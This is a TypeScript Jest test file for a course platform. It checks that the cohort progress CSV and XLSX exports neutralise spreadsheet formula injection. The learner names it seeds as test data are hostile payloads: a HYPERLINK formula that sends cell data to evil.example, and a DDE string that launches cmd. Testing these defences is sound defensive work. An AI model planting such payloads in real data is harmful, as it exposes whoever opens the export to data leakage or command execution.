/**
 * Abuse cases (issue 11, point 4), exports: spreadsheet formula injection in the progress CSV
 * and XLSX is neutralised. (Split from security-abuse.test.ts.)
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { startTestApp, type TestApp } from '../support/app.js';
import { addMember, createCohort, createOrganization, createPublishedCourse, createUser, enrol, type TestUser } from '../support/fixtures.js';

let t: TestApp;

beforeAll(async () => {
  t = await startTestApp();
});
afterAll(async () => {
  await t?.close();
});


// ---------------------------------------------------------------------------------------------

describe('exports: spreadsheet formula injection is neutralised', () => {
  const evilNames = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1)', '\t=1+1'];
  let manager: TestUser;
  let cohortId: string;

  beforeAll(async () => {
    manager = await createUser(t);
    const author = await createUser(t, { platformRoles: ['author'] });
    const orgId = await createOrganization(t);
    await addMember(t, orgId, manager.id, 'manager');
    const course = await createPublishedCourse(t, { authorId: author.id });
    cohortId = await createCohort(t, { organizationId: orgId, courseId: course.courseId });
    for (const name of evilNames) {
      const learner = await createUser(t, { name });
      await addMember(t, orgId, learner.id, 'learner');
      await enrol(t, { userId: learner.id, course, cohortId, organizationId: orgId });
    }
  });

  it('GET /api/cohorts/:id/progress?format=csv prefixes formula-like cells so spreadsheets show them as text', async () => {
    const res = await t.http.get(`/api/cohorts/${cohortId}/progress?format=csv`).set('Authorization', manager.auth).buffer(true);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    const text = res.text;
    for (const name of evilNames) {
      // Every cell holding the name starts with the neutralising apostrophe (quoted or not).
      expect(text).toContain(`'${name.replace(/"/g, '""')}`);
    }
    const cells = text.split(/\r?\n/).flatMap((line) => line.split(','));
    expect(cells.filter((c) => /^"?[=+\-@\t]/.test(c) && !/^"?-?\d/.test(c))).toEqual([]);
  });

  it('GET /api/cohorts/:id/progress?format=xlsx stores the names as text, never as formulas', async () => {
    const res = await t.http
      .get(`/api/cohorts/${cohortId}/progress?format=xlsx`)
      .set('Authorization', manager.auth)
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = [];
        response.on('data', (c: Buffer) => chunks.push(c));
        response.on('end', () => done(null, Buffer.concat(chunks)));
      });
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body as Parameters<typeof book.xlsx.load>[0]);
    const found: string[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) found.push(`formula in ${cell.address}: ${String(cell.formula)}`);
          if (typeof cell.value === 'string' && /^[=+\-@\t]/.test(cell.value) && !/^-?\d/.test(cell.value)) found.push(`${cell.address}: ${cell.value}`);
        }),
      ),
    );
    expect(found).toEqual([]);
  });
});
